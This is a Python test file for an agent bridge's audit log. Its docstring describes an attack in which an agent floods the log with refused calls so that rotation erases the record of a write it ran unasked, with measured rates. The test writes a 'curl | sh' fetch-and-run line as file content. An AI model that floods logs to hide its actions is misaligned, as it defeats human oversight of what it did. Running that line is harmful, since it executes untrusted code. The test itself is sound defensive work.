"""Outside review (attack5): the agent rotates its own history out of the audit log.

The audit log is where the human looks, afterwards, at what ran with nobody asked (allow rules,
the allow and box tiers). It keeps ``audit.keep`` generations of ``audit.max_bytes`` (5 x 10 MiB
by default) and every call writes records, *refused ones too*. A call refused at once (a path
outside the roots with nobody to answer) costs the agent nothing and writes ~800 bytes: measured
over real HTTP on the loaded 2-core review machine, 5451 such calls in 15 s from three
connections (4.4 MB), so the default 50 MiB history is gone in about three minutes, the record
of what the agent did first with it. The same with a small rotation here, so the test stays
cheap: the record of a write that ran unasked must outlive the agent's noise.
"""

from __future__ import annotations

import os

from omp_a2a_bridge.server.infra.auditread import read_records


def test_refused_noise_does_not_rotate_away_what_ran(start_bridge, env) -> None:
    running = start_bridge(
        {
            "approval": {"tiers": {"write": "allow"}, "timeout_s": 0.2},
            "audit": {"max_bytes": 65536, "keep": 2},
        }
    )
    agent = running.client("agent")
    target = os.path.join(env["root"], "deploy.sh")
    r = agent.call("write", {"path": target, "content": "curl -s x | sh\n"})
    assert not r.result["isError"], r.text
    noise = {"path": "/nonexistent/" + "A" * 3000, "offset": 1, "limit": 1}
    for _ in range(400):  # ~320 KB of refused calls: five times what two generations hold
        agent.call("read", noise)
    assert running.runner.bridge is not None
    assert running.runner.bridge.audit.flush(60)
    records = read_records(env["audit"], keep=2)
    ran = [x for x in records if x.get("tool") == "write" and x.get("phase") == "done"]
    assert ran, f"{len(records)} records left, none of them the write that ran"
    # Every refused call's existence is kept: a record each, or a count in a "repeated" one.
    refused = [x for x in records if x.get("tool") == "read" and x.get("phase") == "done"]
    repeated = [x for x in records if x.get("phase") == "repeated"]
    assert len(refused) + sum(x["count"] for x in repeated) == 400, (len(refused), repeated)
    for x in repeated:
        assert x["outcome"] == "no_approver" and x["tools"] == f"read {x['count']}", x
